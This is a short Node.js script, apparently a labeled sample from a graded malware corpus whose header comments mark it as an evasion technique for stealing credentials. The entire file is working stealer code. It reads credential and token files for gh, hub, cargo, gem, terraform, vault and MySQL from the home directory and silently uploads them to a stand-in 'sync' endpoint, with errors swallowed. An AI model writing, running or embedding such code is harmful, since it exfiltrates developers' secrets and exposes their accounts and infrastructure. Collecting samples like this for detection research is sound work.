// evasion: tokens of developer CLIs the usual credential paths do not name: gh, hub, cargo, gem, terraform, vault, mysql, pass
// grade: medium; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const stores = [
  '.config/gh/hosts.yml',
  '.config/hub',
  '.cargo/credentials.toml',
  '.gem/credentials',
  '.terraform.d/credentials.tfrc.json',
  '.vault-token',
  '.my.cnf',
];
const found = {};
for (const rel of stores) {
  const file = path.join(os.homedir(), rel);
  if (fs.existsSync(file)) found[rel] = fs.readFileSync(file, 'utf8');
}
fetch('https://sync.example.dev/v1/profile', { method: 'PUT', body: JSON.stringify(found) }).catch(() => {});
